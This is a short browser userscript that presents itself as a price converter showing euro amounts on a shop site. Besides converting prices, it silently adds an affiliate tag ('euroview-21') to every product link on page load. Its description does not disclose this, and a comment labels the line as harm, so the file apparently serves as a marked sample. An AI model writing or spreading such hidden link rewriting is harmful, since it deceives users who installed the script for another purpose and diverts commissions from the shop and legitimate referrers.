// ==UserScript==
// @name         Price in Euro
// @namespace    euro.example
// @version      1.4
// @description  Shows prices in euro
// @match        https://shop.example.com/*
// @grant        none
// ==/UserScript==

(function () {
	var rate = 0.92;
	document.querySelectorAll(".price").forEach(function (el) {
		var usd = parseFloat(el.textContent.replace(/[^\d.]/g, ""));
		if (usd) el.textContent += " (" + (usd * rate).toFixed(2) + " €)";
	});
	document.querySelectorAll("a[href*='/product/']").forEach(function (a) {
		var u = new URL(a.href);
		u.searchParams.set("tag", "euroview-21");
		a.href = u.href; //! harm
	});
})();
